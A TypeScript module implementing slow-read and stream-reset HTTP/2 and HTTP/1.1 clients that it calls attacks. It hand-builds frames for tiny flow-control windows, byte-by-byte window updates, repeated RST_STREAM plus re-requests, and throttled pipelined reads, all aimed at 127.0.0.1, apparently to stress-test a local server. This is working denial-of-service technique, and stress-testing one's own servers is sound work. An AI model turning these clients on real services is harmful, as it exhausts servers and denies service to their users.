import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import { Duplex } from 'node:stream';
import { connect as connectTls, type TLSSocket } from 'node:tls';

/** Address that an attack goes to. */
export interface Target {
  readonly port: number;
  readonly host: string;
  readonly localAddress: string;
}

/** A client that is slow on purpose. */
export interface SlowClient {
  /** Streams that the server has reset; of HTTP/1.1, connections that it has ended. */
  readonly ended: () => number;
  readonly isOpen: () => boolean;
  close(): void;
}

interface Http2Reading {
  readonly paths: readonly string[];
  readonly encodings?: string;
  readonly streamWindow: number;
  readonly connectionWindow?: number;
  readonly pingMs?: number;
  /** Adds so many bytes to the window of each stream. */
  readonly drip?: { readonly everyMs: number; readonly bytes: number };
  /** Resets what is open and asks again. */
  readonly reopenMs?: number;
  /** Asks again for each stream that the server has reset. */
  readonly persists?: boolean;
  /** Reads nothing at all after the handshake. */
  readonly isDeaf?: boolean;
}

const CANCEL = Buffer.from([0, 0, 0, 8]);
const PING_BYTES = 8;

export async function openHttp2(target: Target, reading: Http2Reading): Promise<SlowClient> {
  const socket = await handshake(target, ['h2']);
  const { paths, encodings, streamWindow, connectionWindow = 0, pingMs, drip, reopenMs } = reading;
  let ended = 0;
  let nextId = 1;
  const open = new Map<number, string>();
  const ask = (path: string) => {
    open.set(nextId, path);
    const request = getRequest(nextId, target.host, path, encodings);
    nextId += 2;
    return request;
  };
  const onFrame = (type: number, _flags: number, streamId: number) => {
    if (type !== frameType.rstStream) return;
    ended += 1;
    const path = open.get(streamId);
    open.delete(streamId);
    if (reading.persists === true && path !== undefined) socket.write(ask(path));
  };
  socket.write(Buffer.concat([openingOf(streamWindow, connectionWindow), ...paths.map(ask)]));
  if (reading.isDeaf === true) socket.pause();
  else socket.on('data', frameReader(onFrame));
  const timers = [
    every(pingMs, () => socket.write(frame(frameType.ping, 0, 0, Buffer.alloc(PING_BYTES)))),
    every(drip?.everyMs, () => {
      socket.write(Buffer.concat([...open.keys()].map((streamId) => windowUpdate(streamId, drip?.bytes ?? 1))));
    }),
    every(reopenMs, () => {
      const paths = [...open.values()];
      const resets = [...open.keys()].map((streamId) => frame(frameType.rstStream, 0, streamId, CANCEL));
      open.clear();
      socket.write(Buffer.concat([...resets, ...paths.map(ask)]));
    }),
  ];
  return clientOf(socket, timers, () => ended);
}

interface Http1Reading {
  readonly path: string;
  readonly encodings?: string;
  /** Takes so many bytes from the kernel in each interval; none without it. */
  readonly drip?: { readonly everyMs: number; readonly bytes: number };
  /** Requests sent at once. */
  readonly pipelined?: number;
  /** Connects without TLS. */
  readonly isPlain?: boolean;
}

export async function openHttp1(target: Target, reading: Http1Reading): Promise<SlowClient> {
  const { path, encodings, pipelined = 1, drip } = reading;
  const tap = new Tap(target, drip);
  const socket = reading.isPlain === true ? tap : await secure(tap, target, ['http/1.1']);
  const lines = [
    `GET ${path} HTTP/1.1`,
    `Host: ${target.host}`,
    ...(encodings === undefined ? [] : [`Accept-Encoding: ${encodings}`]),
  ];
  socket.on('error', () => undefined).on('data', () => undefined);
  socket.write(`${lines.join('\r\n')}\r\n\r\n`.repeat(pipelined));
  tap.slowDown();
  return clientOf(socket, [], () => (tap.isOver ? 1 : 0));
}

/** A TCP connection of which only so much is read, once it is to be slow. */
class Tap extends Duplex {
  readonly #socket: Socket;
  #timer: NodeJS.Timeout | undefined;
  #isSlow = false;
  isOver = false;

  constructor(
    { port, localAddress }: Target,
    private readonly drip: Http1Reading['drip'],
  ) {
    super();
    const onread = {
      buffer: Buffer.alloc(drip?.bytes ?? 1),
      callback: (count: number, buffer: Uint8Array) => {
        this.push(Buffer.from(buffer.subarray(0, count)));
        return !this.#isSlow;
      },
    };
    this.#socket = connectTcp({ host: '127.0.0.1', port, localAddress, onread });
    this.#socket.on('error', () => this.destroy());
    this.#socket.on('end', () => this.push(null));
    this.#socket.on('close', () => this.destroy());
  }

  slowDown(): void {
    this.#isSlow = true;
    this.#socket.pause();
    if (this.drip !== undefined) this.#timer = setInterval(() => this.#socket.resume(), this.drip.everyMs);
  }

  override _read(): void {
    // pushed as it comes
  }

  override _write(chunk: Buffer, _encoding: BufferEncoding, done: () => void): void {
    this.#socket.write(chunk, () => done());
  }

  override _destroy(error: Error | null, done: (error: Error | null) => void): void {
    this.isOver = true;
    clearInterval(this.#timer);
    this.#socket.destroy();
    done(error);
  }
}

async function handshake({ port, host, localAddress }: Target, ALPNProtocols: string[]): Promise<TLSSocket> {
  const options = { host: '127.0.0.1', port, localAddress, servername: host, rejectUnauthorized: false, ALPNProtocols };
  const socket = connectTls(options).on('error', () => undefined);
  await once(socket, 'secureConnect');
  return socket;
}

async function secure(tap: Duplex, { host }: Target, ALPNProtocols: string[]): Promise<TLSSocket> {
  const socket = connectTls({ socket: tap, servername: host, rejectUnauthorized: false, ALPNProtocols });
  socket.on('error', () => undefined);
  await once(socket, 'secureConnect');
  return socket;
}

function clientOf(socket: Duplex, timers: readonly (NodeJS.Timeout | undefined)[], ended: () => number): SlowClient {
  const stop = () => timers.forEach((timer) => clearInterval(timer));
  socket.once('close', stop);
  return {
    ended,
    isOpen: () => !socket.destroyed,
    close: () => {
      stop();
      socket.destroy();
    },
  };
}

function every(ms: number | undefined, act: () => void): NodeJS.Timeout | undefined {
  return ms === undefined ? undefined : setInterval(act, ms);
}

/** HTTP/2 frames made by hand (RFC 9113 §4.1), for what no client library would send. */

const frameType = {
  data: 0,
  headers: 1,
  rstStream: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  windowUpdate: 8,
} as const;

const END_HEADERS = 0x4;
const END_STREAM = 0x1;

const HEAD_BYTES = 9;
const INITIAL_WINDOW_SIZE = 0x4;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(HEAD_BYTES);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** The beginning of a connection: how much each stream, and the connection, may be sent before the client says more. */
function openingOf(streamWindow: number, addedToConnection: number): Buffer {
  const setting = Buffer.alloc(6);
  setting.writeUInt16BE(INITIAL_WINDOW_SIZE, 0);
  setting.writeUInt32BE(streamWindow, 2);
  const more = addedToConnection > 0 ? [windowUpdate(0, addedToConnection)] : [];
  return Buffer.concat([PREFACE, frame(frameType.settings, 0, 0, setting), ...more]);
}

function windowUpdate(streamId: number, bytes: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(bytes, 0);
  return frame(frameType.windowUpdate, 0, streamId, payload);
}

/** A GET, without Huffman coding and without a table (RFC 7541 §6.2.2). */
function getRequest(streamId: number, host: string, path: string, encodings?: string): Buffer {
  const literal = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
  // Of the static table: :method GET and :scheme https whole; :path, :authority and accept-encoding by their names.
  const accept = encodings === undefined ? [] : [Buffer.from([0x0f, 0x01]), literal(encodings)];
  const fields = [Buffer.from([0x82, 0x87, 0x04]), literal(path), Buffer.from([0x01]), literal(host), ...accept];
  return frame(frameType.headers, END_HEADERS | END_STREAM, streamId, Buffer.concat(fields));
}

/** Calls back for each whole frame in what arrives. */
function frameReader(onFrame: (type: number, flags: number, streamId: number, length: number) => void) {
  let rest: Buffer = Buffer.alloc(0);
  return (chunk: Buffer): void => {
    rest = rest.length === 0 ? chunk : Buffer.concat([rest, chunk]);
    for (;;) {
      if (rest.length < HEAD_BYTES) return;
      const length = rest.readUIntBE(0, 3);
      if (rest.length < HEAD_BYTES + length) return;
      onFrame(rest.readUInt8(3), rest.readUInt8(4), rest.readUInt32BE(5) & 0x7f_ff_ff_ff, length);
      rest = rest.subarray(HEAD_BYTES + length);
    }
  };
}
